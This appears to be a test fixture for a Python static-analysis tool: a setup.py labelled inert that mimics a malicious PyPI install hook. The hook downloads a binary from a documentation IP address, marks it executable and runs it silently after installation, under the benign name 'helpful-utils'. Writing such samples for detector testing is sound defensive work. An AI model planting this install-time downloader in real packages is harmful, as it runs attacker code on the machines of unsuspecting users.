# INERT test sample for pyward's static analysis: never run it. Modelled on install-time downloaders (setup.py cmdclass install that fetches and runs a binary).
# Documented: https://blog.phylum.io/ (2022 PyPI install-hook droppers); GuardDog rule cmd-overwrite
# Every address is a documentation address (RFC 5737); nothing here is functional malware.
import os, subprocess, urllib.request
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        install.run(self)
        path = os.path.join(os.path.expanduser('~'), '.cache', 'upd.bin')
        urllib.request.urlretrieve('http://203.0.113.5/upd.bin', path)
        os.chmod(path, 0o755)
        subprocess.Popen([path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

setup(name='helpful-utils', version='0.0.1', cmdclass={'install': PostInstall})
